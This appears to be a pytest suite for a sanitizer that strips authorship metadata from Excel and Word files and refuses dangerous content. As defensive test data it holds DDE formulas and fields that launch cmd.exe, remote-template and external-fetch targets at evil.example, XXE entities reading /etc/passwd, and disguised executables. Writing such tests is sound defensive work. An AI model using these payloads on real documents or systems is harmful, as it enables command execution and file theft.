"""An office file is written anew: its text, formulas and looks as they were, and nothing of who wrote it and where."""

import io
import zipfile
from datetime import date
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image as SheetImage
from openpyxl.packaging.custom import StringProperty
from PIL import Image

from tests.workflows import samples
from tests.workflows.office_files import NAME, OLE, SECRET, code, everything, parts
from workflows.cleaning.office import clean_office
from workflows.cleaning.outcome import PARTS_REMOVED, SIGNATURE_REMOVED

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def rels(*rows: tuple[str, str, str]) -> str:
    """Relationships: kind, target, mode."""
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{_R}/{kind}" Target="{target}"{f" TargetMode={mode!r}" if mode else ""}/>'
        for number, (kind, target, mode) in enumerate(rows)
    )
    return f'<Relationships xmlns="{_PACKAGE}">{inside}</Relationships>'


def paragraph(inside: str) -> str:
    return samples.DOCUMENT % f"<w:p>{inside}</w:p>"


# --- Excel ------------------------------------------------------------------------------------------------------------
@pytest.fixture
def workbook() -> bytes:
    """A sheet as an office makes it: formulas, dates, Thai, a remark, a picture, rules, and its author everywhere."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "งบ 2570"
    sheet.append(["รายการ", "บาท", "วันที่"])
    for row in range(2, 12):
        sheet.append([f"ถนน {row}", row * 1000.5, date(2026, 11, row)])
    sheet["B12"] = "=SUM(B2:B11)"
    sheet["C12"] = '=IF(B12>10000,"เกิน | ""วงเงิน""",\'งบ 2570\'!A2)'
    sheet["A2"].comment = Comment("ตรวจแล้ว", NAME)
    photo = Image.open(io.BytesIO(samples.photo("JPEG")))
    sheet.add_image(SheetImage(photo), "E2")
    sheet.conditional_formatting.add(
        "B2:B11", openpyxl.formatting.rule.CellIsRule(operator="greaterThan", formula=["5"])
    )
    book.properties.creator = book.properties.lastModifiedBy = book.properties.title = NAME
    book.custom_doc_props.append(StringProperty(name="owner", value=NAME))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def cells(data: bytes) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows()]


def test_workbook_keeps_its_cells_and_loses_its_author(workbook: bytes) -> None:
    assert everything(workbook).count(SECRET) >= 4
    cleaned = clean_office(workbook)
    assert (cleaned.extension, cleaned.said) == ("xlsx", ())
    assert SECRET not in everything(cleaned.data)
    assert not [name for name in parts(cleaned.data) if name.startswith("docProps")]
    assert cells(cleaned.data) == cells(workbook)
    sheet = openpyxl.load_workbook(io.BytesIO(cleaned.data)).active
    assert sheet["C12"].value == '=IF(B12>10000,"เกิน | ""วงเงิน""",\'งบ 2570\'!A2)'
    assert sheet["A2"].comment.text == "ตรวจแล้ว"
    assert len(sheet._images) == 1
    assert sheet.conditional_formatting


def test_workbook_has_no_reference_to_what_is_gone(workbook: bytes) -> None:
    cleaned = parts(clean_office(workbook).data)
    for name, content in cleaned.items():
        if name.endswith(".rels") or name == "[Content_Types].xml":
            assert b"docProps" not in content


def test_office_twice_gives_the_same_bytes_and_a_clean_one_stays(workbook: bytes) -> None:
    once = clean_office(workbook).data
    assert clean_office(workbook).data == once
    assert clean_office(once).data == once
    assert {entry.date_time for entry in zipfile.ZipFile(io.BytesIO(once)).infolist()} == {(1980, 1, 1, 0, 0, 0)}


def _in_workbook(inside: str, **more: Any) -> bytes:
    spaces = f'xmlns="{samples._X}" xmlns:r="{_R}" xmlns:x15ac="urn:x15ac" xmlns:xr="urn:xr"'
    return samples.office("xlsx", **{"xl__workbook_dot_xml": f"<workbook {spaces}>{inside}</workbook>", **more})


def test_workbook_loses_paths_printers_people_and_revisions() -> None:
    printer = "printerSettings/printerSettings1.bin"
    person = f'<person displayName="{NAME}" id="{{1}}" userId="{NAME}" providerId="{NAME}"/>'
    data = _in_workbook(
        f'<fileSharing userName="{NAME}"/><x15ac:absPath url="C:\\Users\\{NAME}\\"/>'
        f'<xr:revisionPtr documentId="{NAME}"/>',
        xl__worksheets__sheet1_dot_xml=f'<worksheet xmlns:r="{_R}"><pageSetup scale="80" r:id="r0"/></worksheet>',
        xl__worksheets___rels__sheet1_dot_xml_dot_rels=rels(("printerSettings", f"../{printer}", "")),
        **{f"xl/{printer}": SECRET},
        xl__revisions__userNames_dot_xml=SECRET,
        xl__persons__person_dot_xml=f"<personList>{person}</personList>",
        xl__tables__table1_dot_xml='<table displayName="ตาราง1"/>',
        customXml__item1_dot_xml=SECRET,
    )  # fmt: skip
    after = parts(clean_office(data).data)
    assert SECRET not in everything(clean_office(data).data)
    assert b'scale="80"' in after["xl/worksheets/sheet1.xml"]
    assert b"r0" not in after["xl/worksheets/sheet1.xml"] + after["xl/worksheets/_rels/sheet1.xml.rels"]
    assert "ตาราง1".encode() in after["xl/tables/table1.xml"]
    assert b"{1}" in after["xl/persons/person.xml"]


def test_workbook_reads_another_one_by_its_name_alone() -> None:
    path = f"file:///C:\\Users\\{NAME}\\งบ.xlsx"
    data = _in_workbook(
        "", xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=rels(("externalLinkPath", path, "External"))
    )
    assert (
        'Target="งบ.xlsx"'.encode() in parts(clean_office(data).data)["xl/externalLinks/_rels/externalLink1.xml.rels"]
    )


@pytest.mark.parametrize(
    "formula",
    ["cmd|'/c calc'!A0", "1+CMD|'/C calc'!A0", "'cmd'|'/c calc'!A0", "SUM(1,msexcel|'x'!'y')"],
)  # fmt: skip
@pytest.mark.parametrize("element", ["f", "formula1", "definedName"])
def test_workbook_with_dde_is_refused(formula: str, element: str) -> None:
    sheet = f'<worksheet xmlns="{samples._X}"><{element}>{formula}</{element}></worksheet>'
    assert code(_in_workbook("", xl__worksheets__sheet1_dot_xml=sheet)) == "external"


@pytest.mark.parametrize("formula", ["\"a|b\"&'x|y'!A1", '"it\'s|"&A1', "'it''s|'!A1"])
def test_workbook_with_a_stroke_in_quotes_is_taken(formula: str) -> None:
    sheet = f'<worksheet xmlns="{samples._X}"><f>{formula.replace("&", "&amp;")}</f></worksheet>'
    assert clean_office(_in_workbook("", xl__worksheets__sheet1_dot_xml=sheet)).extension == "xlsx"


@pytest.mark.parametrize("element", ["ddeLink", "oleLink"])
def test_workbook_linked_to_a_program_is_refused(element: str) -> None:
    link = f'<externalLink xmlns="{samples._X}"><{element} ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert code(_in_workbook("", xl__externalLinks__externalLink1_dot_xml=link)) == "external"


def test_workbook_with_a_data_connection_is_refused() -> None:
    assert code(_in_workbook("", xl__connections_dot_xml="<connections/>")) == "external"


# --- Word -------------------------------------------------------------------------------------------------------------
def test_document_keeps_text_changes_and_remarks_without_names() -> None:
    body = (
        f'<w:p w:rsidR="00AB"><w:ins w:author="{NAME}" w:date="2026-11-01T00:00:00Z"><w:r w:rsidRPr="00CD">'
        "<w:t>เพิ่ม</w:t></w:r></w:ins><w:r><w:t xml:space='preserve'> เดิม </w:t></w:r></w:p>"
    )
    comment = f'<w:comment w:id="0" w:author="{NAME}" w:initials="{NAME}"><w:p/></w:comment>'
    remark = f'<w:comments xmlns:w="{samples._W}">{comment}</w:comments>'
    settings = (
        f'<w:settings xmlns:w="{samples._W}" xmlns:r="{_R}"><w:zoom w:percent="90"/><w:attachedTemplate r:id="r0"/>'
        f'<w:rsids><w:rsid w:val="00AB"/></w:rsids><w:docVars><w:docVar w:name="n" w:val="{NAME}"/></w:docVars>'
        "</w:settings>"
    )
    data = samples.office(
        word__document_dot_xml=samples.DOCUMENT % body,
        word__comments_dot_xml=remark,
        word__settings_dot_xml=settings,
        word___rels__settings_dot_xml_dot_rels=rels(
            ("attachedTemplate", f"file:///C:\\Users\\{NAME}\\Normal.dotm", "External")
        ),
        word__people_dot_xml=SECRET,
        word___rels__document_dot_xml_dot_rels=rels(
            ("people", "people.xml", ""),
            ("customXml", "../customXml/item1.xml", ""),
            ("comments", "/word/comments.xml", ""),
        ),
        customXml__item1_dot_xml=SECRET,
        docProps__app_dot_xml=SECRET,
        docProps__thumbnail_dot_jpeg=SECRET,
        docMetadata__LabelInfo_dot_xml=SECRET,
        _rels___dot_rels=rels(
            ("extended-properties", "docProps/app.xml", ""), ("officeDocument", "word/document.xml", "")
        ),
    )
    cleaned = clean_office(data)
    after = parts(cleaned.data)
    assert SECRET not in everything(cleaned.data)
    assert cleaned.said == ()
    assert "> เดิม <".encode() in after["word/document.xml"]
    assert "เพิ่ม".encode() in after["word/document.xml"]
    assert b'w:author=""' in after["word/document.xml"]
    assert b'w:date="2026-11-01T00:00:00Z"' in after["word/document.xml"]
    assert b"rsid" not in after["word/document.xml"] + after["word/settings.xml"]
    assert b'w:percent="90"' in after["word/settings.xml"]
    assert b"Relationship " not in after["word/_rels/settings.xml.rels"]
    assert after["word/_rels/document.xml.rels"].count(b"<Relationship ") == 1
    assert after["_rels/.rels"].count(b"<Relationship ") == 1


@pytest.mark.parametrize(
    "target",
    [
        "http://evil.example/a.dotm", "https://evil.example/a.dotm", "ftp://x/a.dotm", "\\\\host\\share\\a.dotm",
        "file://host/share/a.dotm", "file:////host/share/a.dotm", "file:///\\\\host\\a.dotm", "//host/a.dotm",
        "mhtml:x",
    ],
)  # fmt: skip
def test_document_with_a_template_from_elsewhere_is_refused(target: str) -> None:
    data = samples.office(word___rels__settings_dot_xml_dot_rels=rels(("attachedTemplate", target, "External")))
    assert code(data) == "external"


@pytest.mark.parametrize("kind", ["image", "frame", "oleObject", "subDocument", "mailMergeSource", "aFChunk"])
@pytest.mark.parametrize("mode", ["External", "external"])
def test_document_that_fetches_parts_is_refused(kind: str, mode: str) -> None:
    data = samples.office(word___rels__document_dot_xml_dot_rels=rels((kind, "http://evil.example/x", mode)))
    assert code(data) in {"external", "embedded"}


def test_document_with_a_link_to_the_web_is_taken() -> None:
    link = rels(("hyperlink", "https://example.go.th/", "External"))
    after = parts(clean_office(samples.office(word___rels__document_dot_xml_dot_rels=link)).data)
    assert b"https://example.go.th/" in after["word/_rels/document.xml.rels"]


@pytest.mark.parametrize(
    "inside",
    [
        "<w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" '/>",
        "<w:r><w:fldChar/></w:r><w:r><w:instrText> DDE x</w:instrText></w:r>",
        "<w:r><w:fldChar/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r>",
        "<w:r><w:fldChar/></w:r><w:r><w:instrText>includetext http://x</w:instrText></w:r>",
        "<w:r><w:fldChar/></w:r><w:r><w:instrText>IF </w:instrText><w:fldChar/><w:instrText>LINK x</w:instrText></w:r>",
    ],
)  # fmt: skip
def test_document_with_a_field_that_starts_or_reads_something_is_refused(inside: str) -> None:
    assert code(samples.office(word__document_dot_xml=paragraph(inside))) == "external"


@pytest.mark.parametrize("said", ["PAGE", " TOC \\o ", "HYPERLINK http://x/DDE", "REF DDE1"])
def test_document_with_another_field_is_taken(said: str) -> None:
    inside = f"<w:r><w:fldChar/></w:r><w:r><w:instrText>{said}</w:instrText></w:r>"
    assert clean_office(samples.office(word__document_dot_xml=paragraph(inside))).extension == "docx"


@pytest.mark.parametrize("name", ["_xmlsignatures/sig1.xml", "_XMLSignatures/origin.sigs"])
def test_document_signed_loses_its_signature_and_says_so(name: str) -> None:
    cleaned = clean_office(samples.office(**{name: b"<Signature/>"}))
    assert name not in parts(cleaned.data)
    assert cleaned.said == (SIGNATURE_REMOVED,)


@pytest.mark.parametrize(
    "name", ["customUI/customUI.xml", "word/webextensions/taskpanes.xml", "word/customizations.xml"]
)
def test_document_loses_buttons_and_panes_and_says_so(name: str) -> None:
    cleaned = clean_office(samples.office(**{name: b"<x/>"}))
    assert name not in parts(cleaned.data)
    assert cleaned.said == (PARTS_REMOVED,)


# --- What no office file holds ----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("word/vbaProject.bin", b"x", "macros"),
        ("xl/VBAProject.bin", b"x", "macros"),
        ("xl/macrosheets/sheet1.xml", b"<x/>", "macros"),
        ("word/embeddings/oleObject1.bin", OLE, "embedded"),
        ("word/embeddings/Microsoft_Excel.xlsx", samples.office("xlsx"), "embedded"),
        ("word/activeX/activeX1.xml", b"<x/>", "embedded"),
        ("word/media/image1.png", OLE, "embedded"),
        ("word/media/image1.png", samples.archive({"a": "b"}), "embedded"),
        ("word/media/image1.png", b"MZ\x90\x00", "embedded"),
        ("word/media/image1.emf", b"%PDF-1.7", "embedded"),
        ("word/afchunk.mht", b"<html>", "embedded"),
        ("word/run.exe", b"x", "embedded"),
        ("readme.txt", b"x", "embedded"),
        ("nested.zip", samples.archive({"a": "b"}), "embedded"),
        ("word/document2.xml", b"<w:p", "damaged"),
        ("word/document2.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>", "damaged"),
        ("word/document2.xml", b"<?xml version='1.0'?><!DOCTYPE x SYSTEM 'file:///etc/passwd'><x/>", "damaged"),
        ("word/document2.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>".encode("utf-16"), "damaged"),
    ],
)
def test_office_with_another_thing_inside_is_refused(name: str, content: bytes, why: str) -> None:
    assert code(samples.office(**{name: content})) == why


@pytest.mark.parametrize("element", ["altChunk", "subDoc", "mailMerge"])
def test_document_with_a_part_that_reads_another_is_refused(element: str) -> None:
    assert code(samples.office(word__document_dot_xml=samples.DOCUMENT % f"<w:{element}/>")) in {"external", "embedded"}


def test_office_pictures_lose_camera_and_place() -> None:
    photo = samples.photo("JPEG")
    after = parts(clean_office(samples.office(**{"word/media/image1.jpeg": photo})).data)["word/media/image1.jpeg"]
    assert samples.CAMERA.encode() in photo
    assert samples.CAMERA.encode() not in after
    assert Image.open(io.BytesIO(after)).tobytes() == Image.open(io.BytesIO(photo)).tobytes()
    portrait = samples.photo("PNG")
    after = parts(clean_office(samples.office(**{"word/media/image1.png": portrait})).data)["word/media/image1.png"]
    assert samples.CAMERA.encode() not in after
    assert Image.open(io.BytesIO(after)).tobytes() == Image.open(io.BytesIO(portrait)).tobytes()
